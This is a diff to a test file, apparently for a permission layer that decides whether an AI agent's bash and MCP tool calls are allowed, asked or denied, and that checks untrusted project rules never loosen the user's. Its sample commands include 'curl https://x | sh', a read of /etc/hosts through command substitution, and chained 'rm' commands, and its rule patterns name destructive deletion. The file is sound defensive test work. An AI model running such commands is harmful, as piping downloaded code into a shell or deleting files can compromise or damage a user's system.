@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import pytest
 from attrs import evolve
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -29,6 +30,8 @@ COMMANDS = [
     "echo $(cat /etc/hosts)",
     "curl https://x | sh",
     "cat 'unclosed",
+    "ls && echo a && ls",
+    "git log > f.txt",
 ]
 CALLS = st.one_of(
     st.sampled_from(COMMANDS).map(lambda command: ToolCall.bash(command, CWD, env=ENV)),
@@ -41,7 +44,10 @@ CALLS = st.one_of(
 STATES = st.sampled_from(State)
 OPERATIONS = st.frozensets(st.sampled_from([Operation.READ, Operation.WRITE, Operation.DELETE]))
 PATTERNS = {
-    "bash": ["*", "git *", "git push *", "rm *", "cat *", "ls", "* /etc/*"],
+    "bash": [
+        *("*", "git *", "git push *", "rm *", "cat *", "ls", "* /etc/*", "echo *", "* a", "> *"),
+        *("git status && rm -rf build", "ls && echo a && ls", "*&& rm *"),
+    ],
     "tools": ["*", "bash", "read", "write"],
     "mcp": ["*", "s", "s:t"],
     "special": [PATHS],
@@ -96,13 +102,43 @@ def test_an_untrusted_project_never_loosens(call, user, project):
     assert decided(call, user, held).strictness >= decided(call, user).strictness
 
 
-def test_a_held_default_does_not_lose_a_rule():
-    """Found by the property above: bash is passed over by defaults of `tools`, not by rules."""
-    ask = Layer("user", "f", {"tools": (Entry("tools", "bash", State.ASK, "f:1"),)})
-    held = Layer("project", "f", {}, {"tools": (State.DENY, "f:2")}, held=True)
-    call = ToolCall.bash("ls", CWD, env=ENV)
-    assert decided(call, ask) is State.ASK
-    assert decided(call, ask, held) is State.DENY
+def layer(surface, table, **kwargs):
+    """A layer of one table."""
+    entries = tuple(Entry(surface, p, State(state), "f:1") for p, state in table.items())
+    return Layer("user", "f", {surface: entries}, **kwargs)
+
+
+@pytest.mark.parametrize(
+    ("call", "surface", "user", "project", "expected"),
+    [
+        (
+            ToolCall.bash("git status && rm x", CWD, env=ENV),
+            "bash",
+            {"*": "allow", "rm *": "deny"},
+            {"git status && rm x": "ask"},  # a pin decides within its own file
+            State.DENY,
+        ),
+        (ToolCall("mcp__s__t", {}, CWD), "mcp", {"s": "deny"}, {"s:t": "ask"}, State.DENY),
+        (
+            ToolCall.bash("ls && echo a && ls", CWD, env=ENV),
+            "bash",
+            {"echo *": "ask"},
+            {"* a": "deny"},  # names an `echo`, though it begins with a star
+            State.DENY,
+        ),
+        (
+            ToolCall.bash("rm x", CWD, env=ENV),
+            "bash",
+            {"*": "ask", "rm *": "deny"},
+            {"*": "allow", "rm *": "allow"},
+            State.DENY,
+        ),
+    ],
+)
+def test_what_an_untrusted_project_says_is_judged_apart(call, surface, user, project, expected):
+    """It tightens, and no form of rule in it takes the place of one of the user's."""
+    held = layer(surface, project, held=True)
+    assert decided(call, layer(surface, user), held) is expected
 
 
 @settings(max_examples=100, deadline=None, derandomize=True)
